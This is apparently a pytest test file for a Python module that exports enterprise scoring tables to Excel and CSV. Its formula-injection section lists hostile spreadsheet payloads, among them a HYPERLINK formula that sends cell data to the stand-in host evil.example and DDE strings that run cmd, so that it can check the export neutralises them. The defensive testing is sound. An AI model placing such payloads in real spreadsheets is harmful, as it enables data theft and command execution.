"""Exports: Excel with Chinese headers that calamine reads back, CSV with a BOM and empty NAs."""

from __future__ import annotations

import codecs
import csv
import io
import zipfile

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.csv as pacsv
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from muyun import export, labels


def scored_rows() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "credit_code": pd.array(["91330784A", "91330784B", "91330784C"], dtype="str"),
            "name": pd.array(["永康甲有限公司", '乙,丙 "联合" 厂', None], dtype="str"),
            "total": [101.25, np.nan, 1 / 3],
            "rank": pd.array([1, 2, None], dtype="Int64"),
            "tier": pd.array(["A", "B", None], dtype="str"),
            "veto": [False, True, False],
            "score_tax_per_mu": [30.0, 12.5, 0.0],
            "tax_per_mu": [12.0, 6.0, 0.6 / 0.1],
        }
    )


def test_excel_has_chinese_headers_and_reads_back_with_calamine():
    frame = scored_rows()
    data = export.to_excel_bytes(frame)
    sheet = pd.read_excel(io.BytesIO(data), engine="calamine")
    # Issue 13: the same headers with units as the page (综合得分（分）), not bare names.
    assert list(sheet.columns) == [export.column_format(c).header for c in frame.columns]
    assert list(sheet.columns)[:3] == ["统一社会信用代码", "企业名称", "综合得分（分）"]
    assert "亩均税收得分（分）" in sheet.columns and "亩均税收（万元/亩）" in sheet.columns
    assert sheet["企业名称"].iloc[0] == "永康甲有限公司"
    assert sheet["综合得分（分）"].iloc[0] == 101.25 and pd.isna(sheet["综合得分（分）"].iloc[1])
    assert sheet["综合得分（分）"].iloc[2] == 0.33  # rounded like the page
    assert sheet["一票否决"].tolist() == ["否", "是", "否"]
    assert sheet["行业排名"].iloc[:2].tolist() == [1, 2]
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert workbook.sheet_names == [labels.EXPORT_TEXT["sheet"]]


def test_excel_shows_ratio_indicators_as_percent():
    """R&D intensity is stored as a ratio; its column carries a % number format in Excel."""
    frame = pd.DataFrame({"credit_code": ["A"], "rd_intensity": [0.0452], "total": [90.0]})
    data = export.to_excel_bytes(frame)
    sheet = pd.read_excel(io.BytesIO(data), engine="calamine")
    assert sheet[labels.score_header("rd_intensity")].iloc[0] == 0.0452
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = archive.read("xl/styles.xml").decode()
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert 'formatCode="0.00%"' in styles
    assert '<col min="2" max="2"' in sheet_xml and 'style="' in sheet_xml.split('<col min="2"')[1]


def test_excel_header_function_and_sheet_name():
    data = export.to_excel_bytes(
        pd.DataFrame({"a": [1]}), header=lambda c: f"列{c}", sheet_name="清单"
    )
    workbook = CalamineWorkbook.from_filelike(io.BytesIO(data))
    assert workbook.sheet_names == ["清单"]
    assert workbook.get_sheet_by_index(0).to_python() == [["列a"], [1]]


def test_csv_has_a_bom_english_keys_and_empty_cells_for_missing_values():
    data = export.to_csv_bytes(scored_rows())
    assert data.startswith(codecs.BOM_UTF8)
    text = data[len(codecs.BOM_UTF8) :].decode("utf-8")
    assert not any(word in text for word in ("nan", "NaN", "<NA>", "None"))
    header, *rows = csv.reader(io.StringIO(text))
    assert header == list(scored_rows().columns)
    assert [row[1] for row in rows] == ["永康甲有限公司", '乙,丙 "联合" 厂', ""]
    assert [row[2] for row in rows][1] == ""  # total NaN
    assert [row[3] for row in rows] == ["1", "2", ""]  # Int64 with NA
    assert [row[4] for row in rows] == ["A", "B", ""]
    assert [row[5] for row in rows] == ["false", "true", "false"]


def test_csv_floats_round_trip_exactly():
    frame = scored_rows()
    back = pd.read_csv(io.BytesIO(export.to_csv_bytes(frame)), encoding="utf-8-sig")
    np.testing.assert_array_equal(back["total"].to_numpy(), frame["total"].to_numpy())
    np.testing.assert_array_equal(back["tax_per_mu"].to_numpy(), frame["tax_per_mu"].to_numpy())


def test_csv_of_timestamps_mixed_objects_and_no_columns():
    frame = pd.DataFrame(
        {
            "at": pd.to_datetime(["2024-05-01 08:30:00", None]),
            "mixed": pd.Series([1, "二"], dtype=object),
        }
    )
    text = export.to_csv_bytes(frame).decode("utf-8-sig")
    rows = [line.replace('"', "") for line in text.splitlines()]
    assert rows == ["at,mixed", "2024-05-01 08:30:00,1", ",二"]
    assert export.to_csv_bytes(pd.DataFrame()) == codecs.BOM_UTF8


def test_write_table_by_suffix(tmp_path):
    frame = scored_rows()
    csv_path = export.write_table(frame, tmp_path / "结果.csv")
    assert csv_path.read_bytes() == export.to_csv_bytes(frame)
    xlsx_path = export.write_table(frame, tmp_path / "结果.XLSX")
    sheet = pd.read_excel(xlsx_path, engine="calamine")
    assert "统一社会信用代码" in sheet.columns
    with pytest.raises(ValueError, match=r"\.pdf"):
        export.write_table(frame, tmp_path / "结果.pdf")
    assert not (tmp_path / "结果.pdf").exists()


def sliced_frame(rows: int) -> pd.DataFrame:
    """Text needing quotes, formula-like names, NaN, NA, flags and floats of every length."""
    rng = np.random.default_rng(3)
    names = np.array(['甲,乙 "丙"', "=SUM(1)", "行\n二", "", "plain", None], dtype=object)
    return pd.DataFrame(
        {
            "name": pd.array(names[rng.integers(0, len(names), rows)], dtype="str"),
            "total": np.where(rng.random(rows) < 0.1, np.nan, rng.normal(0, 1e3, rows)),
            "rank": pd.Series(rng.integers(0, 9, rows), dtype="Int64").where(
                rng.random(rows) > 0.1
            ),
            "veto": rng.random(rows) < 0.5,
            "tiny": rng.random(rows) / 3e5,
        }
    )


@pytest.mark.parametrize("rows", [0, 1, 9, 10, 11, 57])
@pytest.mark.parametrize("slice_rows", [1, 4, 10])
def test_threaded_csv_slices_make_the_bytes_of_one_writer(monkeypatch, rows, slice_rows):
    """Slices written on threads and joined: the same file, header and BOM once, any split."""
    frame = sliced_frame(rows)
    one = export.to_csv_bytes(frame)
    monkeypatch.setattr(export, "CSV_SLICE_ROWS", slice_rows)
    monkeypatch.setattr(export, "CSV_THREADS", 3)
    sliced = export.to_csv_bytes(frame)
    assert sliced == one
    assert sliced.count(codecs.BOM_UTF8) == 1
    assert sliced.decode("utf-8-sig").startswith('"name","total","rank","veto","tiny"')


def test_threaded_csv_writer_on_a_province_sized_table_matches_one_writer():
    table = pa.Table.from_pandas(sliced_frame(60_000), preserve_index=False)
    one, sliced = io.BytesIO(), io.BytesIO()
    export.write_csv_table(table, one, threads=1)
    export.write_csv_table(table, sliced, rows=7_001, threads=2)
    assert sliced.getvalue() == one.getvalue()
    assert sliced.getvalue().count(b'"name","total"') == 1


# --- formula injection (issue 10, finding 3) ---------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def hostile_frame() -> pd.DataFrame:
    names = [*HOSTILE_NAMES, "http://evil.example/", "永康甲有限公司", "-12.5", None]
    return pd.DataFrame(
        {
            "name": pd.array(names, dtype="str"),
            "note": pd.Series(names, dtype=object),
            "total": np.arange(len(names), dtype=float) - 3,
        }
    )


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_neutralise_prefixes_formula_starts_with_an_apostrophe(name):
    assert export.neutralise(name) == "'" + name


@pytest.mark.parametrize("value", ["永康甲有限公司", "-12.5", "+3%", "1,234.5", "", None, 7, -3.0])
def test_neutralise_leaves_plain_text_and_numbers(value):
    assert export.neutralise(value) == value


CELL_PIECES = st.sampled_from(
    ["=", "+", "-", "@", "\t", "\r", "\n", "1", "a", "名", "'", " ", "\u3000"]
)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.none() | st.lists(CELL_PIECES, max_size=4).map("".join), max_size=6),
    st.sampled_from(["str", "object"]),
)
def test_the_first_byte_test_finds_every_cell_a_prefix_test_finds(cells, dtype):
    """`neutralise_frame` looks at a column only when `_leads_formula` says a cell starts like
    a formula: it must agree with `str.startswith(FORMULA_LEADS)`, multibyte text and missing
    cells included."""
    text = pd.Series(cells, dtype=dtype).astype("string")
    expected = bool(text.str.startswith(export.FORMULA_LEADS).fillna(False).any())
    assert export._leads_formula(text) == expected


def test_a_formula_among_the_categories_of_a_column_is_neutralised():
    frame = pd.DataFrame({"town": pd.Categorical(["=HYPERLINK(1)", "古山镇", "=HYPERLINK(1)"])})
    text = export.to_csv_bytes(frame).decode("utf-8-sig")
    assert [row[0] for row in csv.reader(io.StringIO(text))][1:] == [
        "'=HYPERLINK(1)",
        "古山镇",
        "'=HYPERLINK(1)",
    ]
    assert export.neutralise_frame(frame)["town"].tolist()[1] == "古山镇"


def test_csv_neutralises_a_formula_in_a_later_chunk_or_after_a_slice():
    def part(*names: str) -> pd.DataFrame:
        return pd.DataFrame({"name": pd.array(names, dtype="str")})

    chunked = pd.concat([part("甲", "乙"), part("@SUM(1)")], ignore_index=True)
    sliced = part("甲", "乙", "丙", "=1+1").iloc[1:]  # the formula is past the unsliced end
    assert pa.array(chunked["name"]).num_chunks == 2
    assert pa.array(sliced["name"]).offset == 1
    for frame, expected in [(chunked, ["甲", "乙", "'@SUM(1)"]), (sliced, ["乙", "丙", "'=1+1"])]:
        text = export.to_csv_bytes(frame).decode("utf-8-sig")
        assert [row[0] for row in csv.reader(io.StringIO(text))][1:] == expected


@pytest.mark.parametrize("batch", [1, 3, 1_000_000])
def test_csv_batch_size_only_splits_the_work(monkeypatch, batch):
    """`CSV_BATCH_ROWS` is a speed setting: any batch size writes the same bytes."""
    frame = sliced_frame(57)
    one = export.to_csv_bytes(frame)
    monkeypatch.setattr(
        export, "_CSV_OPTIONS", pacsv.WriteOptions(quoting_style="needed", batch_size=batch)
    )
    assert export.to_csv_bytes(frame) == one


def test_excel_export_has_no_formulas_or_links():
    data = export.to_excel_bytes(hostile_frame(), header=lambda c: c)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        names = archive.namelist()
    assert "<f>" not in sheet_xml, "a live formula was written"
    assert "hyperlink" not in sheet_xml.lower() and not any("rels/sheet1" in n for n in names)
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    cells = [row[0] for row in sheet[1:]]
    assert cells[: len(HOSTILE_NAMES)] == ["'" + n for n in HOSTILE_NAMES]
    assert cells[len(HOSTILE_NAMES) :] == ["http://evil.example/", "永康甲有限公司", "-12.5", ""]
    assert [row[1] for row in sheet[1:]] == cells  # object columns too
    assert sheet[1][2] == -3.0  # numbers stay numbers


def test_csv_export_neutralises_every_text_cell():
    data = export.to_csv_bytes(hostile_frame())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    for row, name in zip(rows[1:], HOSTILE_NAMES, strict=False):
        assert row[0] == row[1] == "'" + name
    assert rows[-2][0] == "-12.5" and float(rows[-2][2]) == 6.0


def test_headers_that_look_like_formulas_are_neutralised_too():
    frame = pd.DataFrame({"=1+1": ["a"]})
    text = export.to_csv_bytes(frame).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(text))) == ["'=1+1"]
    sheet = pd.read_excel(
        io.BytesIO(export.to_excel_bytes(frame, header=lambda c: c)), engine="calamine"
    )
    assert list(sheet.columns) == ["'=1+1"]


def test_excel_is_ready_to_hand_out_bold_frozen_header_filter_and_number_formats():
    """Issue 13 item 2: bold frozen header row with autofilter, thousands separators, 2 decimals."""
    data = export.to_excel_bytes(scored_rows())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = archive.read("xl/styles.xml").decode()
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<autoFilter" in sheet_xml and 'ref="A1:H4"' in sheet_xml
    assert 'state="frozen"' in sheet_xml
    assert 'formatCode="#,##0.00"' in styles and "<b/>" in styles


def test_official_csv_has_chinese_headers_units_and_the_pages_rounding():
    """Issue 13 item 2: no English keys and no raw floats such as -1.0526315789473684."""
    frame = scored_rows().assign(
        total=[101.25, -1.0526315789473684, 1 / 3], rd_intensity=[0.0452, None, 0.1]
    )
    text = export.to_official_csv_bytes(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["统一社会信用代码", "企业名称", "综合得分（分）"]
    assert rows[0][-1] == "研发经费支出占营业收入比重（%）"
    assert [row[2] for row in rows[1:]] == ["101.25", "-1.05", "0.33"]
    assert [row[-1] for row in rows[1:]] == ["4.52", "", "10"]
    assert [row[5] for row in rows[1:]] == ["否", "是", "否"]
    assert not any(c.isascii() and c.isalpha() for c in "".join(rows[0]))


def test_file_stem_names_every_filter():
    """Issue 13 item 2: a 门业·D·西城街道 export is named after its filters."""
    stem = export.file_stem(2024, "规下", ("门业",), ("D",), ("西城街道",), "行业排名")
    assert stem == "2024_规下_门业_D_西城街道_行业排名"
    assert export.file_stem(2024, (), ("A", "B", "C"), "x/y") == "2024_A等3项_x-y"
